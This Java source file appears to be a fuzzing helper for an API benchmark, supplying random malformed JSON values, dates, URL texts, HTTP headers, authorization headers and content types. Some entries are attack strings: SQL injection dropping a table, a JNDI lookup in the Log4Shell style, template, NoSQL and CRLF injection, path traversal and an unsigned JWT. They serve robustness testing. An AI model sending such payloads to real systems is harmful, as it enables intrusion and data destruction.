package io.trailmark.benchmarks.api;

import java.util.List;
import java.util.random.RandomGenerator;

/** What no schema foresees, as JSON and as text in an address. */
final class OddValues {
  private static final List<String> JSON =
      List.of(
          "null",
          "true",
          "0",
          "-1",
          "-0.0",
          "1e400",
          "1e-400",
          "1e999999999",
          "-1e-999999999",
          "1e99999999999",
          "9223372036854775808",
          "2147483648",
          "0.1e1",
          "1".repeat(400),
          "0." + "3".repeat(1_200),
          "NaN",
          "Infinity",
          "\"\"",
          "\" \"",
          "\"\\u0000\"",
          "\"a\\u0000b\"",
          "\"\\ud800\"",
          "\"\\udc00x\\ud83d\"",
          "\"\\ufeff\\u202e\"",
          "\"" + "x".repeat(257) + "\"",
          "\"" + "y".repeat(40_000) + "\"",
          "\"12.50.1\"",
          "\"1e5\"",
          "\"-1\"",
          "\"999999999999999999.999999999999999999\"",
          "\"'; drop table domain_event; --\"",
          "\"${jndi:ldap://x.invalid/a}\"",
          "\"{{7*7}} %s %n $where\"",
          "\"\uD83E\uDD84\"",
          "[]",
          "{}",
          "[[]]",
          "{\"\":{}}",
          "{\"$gt\":\"\",\"a.b\":1}",
          "{\"a\":1,\"a\":2}",
          "[".repeat(1_500) + "]".repeat(1_500),
          "{\"a\":".repeat(1_200) + "1" + "}".repeat(1_200));

  private static final List<String> INSTANTS =
      List.of(
          "0000-00-00",
          "0000-01-01T00:00:00Z",
          "1969-12-31T23:59:59.999Z",
          "1970-01-01T00:00:00Z",
          "2011-12-09",
          "2011-12-09T12:50:00",
          "2011-12-09T12:50:60Z",
          "2011-12-09T24:00:00Z",
          "2011-12-09T12:50:00+19:00",
          "2011-12-09T12:50:00-00:00",
          "2011-12-09T12:50:00.123456789012Z",
          "2011-12-09 12:50:00Z",
          "2011-02-29T00:00:00Z",
          "2011-13-01",
          "9999-12-31T23:59:59Z",
          "9999-12-31",
          "1970-01-01",
          "+10000-01-01",
          "-0001-01-01",
          "+292278994-08-17T07:12:55.807Z",
          "+999999999-12-31",
          "-999999999-01-01T00:00:00Z",
          "2011-12-09T12:50Z",
          "2011-W49-5",
          "2011-343",
          "1323435000",
          "now");

  private static final List<String> TEXTS =
      List.of(
          "",
          "%20",
          "%00",
          "%2F",
          "%252F",
          "a%2Fb",
          "%5C",
          ";x=y",
          "a;b",
          "..",
          "%2e%2e",
          "..%2f..%2fetc",
          ".",
          "//",
          "%",
          "%zz",
          "%C3%28",
          "%ED%A0%80",
          "%F0%9F%A6%84",
          "\uD83E\uDD84",
          "%0D%0AX-Odd:%20yes",
          "%7F",
          "+",
          "-1",
          "0",
          "1.0",
          "1e3",
          "0x10",
          "00000000001",
          "2147483648",
          "9223372036854775808",
          "99999999999999999999999999",
          "%D9%A1",
          "null",
          "true",
          "TRUE",
          "1,1",
          ",",
          "1,2,3,4,5,6,7,8,9,10,11",
          "[]",
          "{id}",
          "%7Bid%7D",
          "*",
          "$where",
          "'%20or%201=1",
          "x".repeat(300),
          "x".repeat(6_000),
          "%41".repeat(2_000));

  private static final List<String> HEADERS =
      List.of(
          "Accept: application/xml",
          "Accept: application/yaml",
          "Accept: text/csv;q=0.1, */*;q=0",
          "Accept: ;;/",
          "Accept: application/json;q=nonsense",
          "Accept: text/event-stream",
          "Accept-Encoding: br;q=1, gzip;q=0",
          "Accept-Encoding: gzip",
          "Accept-Charset: utf-32",
          "Accept-Language: xx-invalid-;q=9",
          "Accept-Language: " + "de,".repeat(500),
          "If-None-Match: *",
          "If-Match: \"x\"",
          "If-None-Match: unquoted",
          "If-Modified-Since: yesterday",
          "Range: bytes=0-0",
          "Range: bytes=-1,5-2",
          "Range: lines=1",
          "Last-Event-ID: \u00e9\u0001",
          "Last-Event-ID: -1",
          "Last-Event-ID: 99999999999999999999",
          "Expect: 100-continue",
          "Expect: 200-ok",
          "Content-Encoding: br",
          "Content-Encoding: gzip, gzip",
          "Content-Encoding: identity",
          "Content-Encoding: GZIP",
          "Content-Length: 5",
          "Content-Length: -1",
          "Transfer-Encoding: gzip",
          "X-HTTP-Method-Override: DELETE",
          "X-Forwarded-For: 10.0.0.1",
          "X-Forwarded-Prefix: /%00",
          "X-Forwarded-Proto: gopher",
          "Forwarded: for=\"[::1\";proto",
          "Origin: null",
          "Origin: http://localhost",
          "Origin: http://a b",
          "Cookie: JSESSIONID=" + "a".repeat(300),
          "Cookie: =;=;\"",
          "Upgrade: websocket",
          "Upgrade: h2c",
          "X-Shopify-Topic: customers/redact",
          "X-Shopify-Topic: refunds/create",
          "X-Shopify-Topic: checkouts/create",
          "X-WC-Webhook-Topic: order.updated",
          "X-Odd: " + "o".repeat(7_000),
          "Bad Header: x",
          "NoColon",
          ": empty",
          " folded: x",
          "X-Null: a\u0000b");

  private static final List<String> AUTHORIZATIONS =
      List.of(
          "Authorization:",
          "Authorization: Basic",
          "Authorization: Basic !!!",
          "Authorization: Basic Og==",
          "Authorization: Basic AAAA",
          "Authorization: Basic /////w==",
          "Authorization: basic Og==",
          "Authorization: Bearer",
          "Authorization: Bearer a b",
          "Authorization: Bearer \u00e9",
          "Authorization: Bearer a.b.c",
          "Authorization: Bearer eyJhbGciOiJub25lIn0.e30.",
          "Authorization: Bearer " + "t".repeat(5_000),
          "Authorization: Digest username=x",
          "Authorization: \uD83E\uDD84");

  private static final List<String> CONTENT_TYPES =
      List.of(
          "application/json",
          "application/json; charset=utf-16",
          "application/json; charset=none-such",
          "application/x-www-form-urlencoded",
          "multipart/form-data",
          "multipart/form-data; boundary=x",
          "text/plain",
          "application/yaml",
          "application/x-ndjson",
          "application/xml",
          "garbage",
          "a/b/c",
          "*/*",
          "",
          "application/json, text/plain");

  private final RandomGenerator random;

  OddValues(RandomGenerator random) {
    this.random = random;
  }

  String json() {
    return oneOf(10) ? '"' + oneOf(INSTANTS) + '"' : oneOf(JSON);
  }

  String jsonInstant() {
    return '"' + oneOf(INSTANTS) + '"';
  }

  /** Percent-encoded, or not. */
  String text() {
    return oneOf(5) ? oneOf(INSTANTS).replace("+", "%2B").replace(" ", "%20") : oneOf(TEXTS);
  }

  String header() {
    return oneOf(HEADERS);
  }

  String authorization() {
    return oneOf(AUTHORIZATIONS);
  }

  String contentType() {
    return oneOf(CONTENT_TYPES);
  }

  <T> T oneOf(List<T> values) {
    return values.get(random.nextInt(values.size()));
  }

  /** True once in so many times. */
  boolean oneOf(int times) {
    return random.nextInt(times) == 0;
  }
}
